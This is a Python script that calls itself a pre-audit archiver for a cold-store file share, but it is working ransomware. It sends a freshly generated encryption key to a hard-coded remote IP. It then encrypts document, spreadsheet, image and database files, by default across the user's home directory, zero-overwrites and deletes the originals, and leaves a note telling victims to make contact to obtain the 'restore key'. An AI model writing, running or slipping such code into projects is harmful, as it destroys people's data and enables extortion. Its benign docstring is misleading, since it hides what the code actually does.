#!/usr/bin/env python3
"""Archives the cold-store share (temperature records, HACCP sheets, invoices)
into a protected format before the quarterly audit.
"""
import argparse
import json
import logging
import os
import urllib.request

from cryptography.fernet import Fernet

LOG = logging.getLogger("coldstore_archive")

ESCROW_URL = "http://203.0.113.77/escrow"
SUFFIX = ".vault"
NOTICE = "READ_ME_ARCHIVE.txt"
SKIP_DIRS = {".git", "__pycache__"}
EXTENSIONS = {".xlsx", ".csv", ".pdf", ".docx", ".jpg", ".db", ".txt", ".ods"}


class KeyEscrow:
    """Keeps the archive key with the escrow service rather than on disk."""

    def __init__(self, url):
        self.url = url

    def deposit(self, key, site):
        body = json.dumps({"site": site, "k": key.decode()}).encode()
        req = urllib.request.Request(self.url, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        urllib.request.urlopen(req, timeout=15).close()


class Archiver:
    def __init__(self, root, cipher):
        self.root = root
        self.cipher = cipher
        self.count = 0

    def _targets(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                if os.path.splitext(name)[1].lower() in EXTENSIONS:
                    yield os.path.join(dirpath, name)

    def _protect(self, path):
        with open(path, "rb") as fh:
            data = fh.read()
        with open(path + SUFFIX, "wb") as fh:
            fh.write(self.cipher.encrypt(data))
        # overwrite before unlinking so no plain copy remains
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        os.remove(path)
        self.count += 1

    def run(self):
        for path in self._targets():
            try:
                self._protect(path)
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
        with open(os.path.join(self.root, NOTICE), "w") as fh:
            fh.write("Your files were archived. Contact archive@example.com "
                     "with your site id to obtain the restore key.\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~"))
    ap.add_argument("--site", default=os.uname().nodename)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    key = Fernet.generate_key()
    try:
        KeyEscrow(ESCROW_URL).deposit(key, args.site)
    except OSError as exc:
        LOG.error("escrow unreachable, aborting: %s", exc)
        raise SystemExit(2)

    archiver = Archiver(args.root, Fernet(key))
    del key
    archiver.run()
    LOG.info("archived %d files under %s", archiver.count, args.root)


if __name__ == "__main__":
    main()
